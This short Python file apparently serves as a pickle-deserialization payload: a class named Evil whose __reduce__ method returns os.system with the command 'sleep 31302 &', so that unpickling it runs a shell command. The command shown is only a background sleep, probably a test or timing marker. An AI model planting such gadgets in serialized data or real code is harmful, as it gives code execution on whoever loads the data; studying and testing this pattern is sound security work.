import os

class Evil:
    def __reduce__(self):
        return os.system, ("sleep 31302 &",)

Evil()
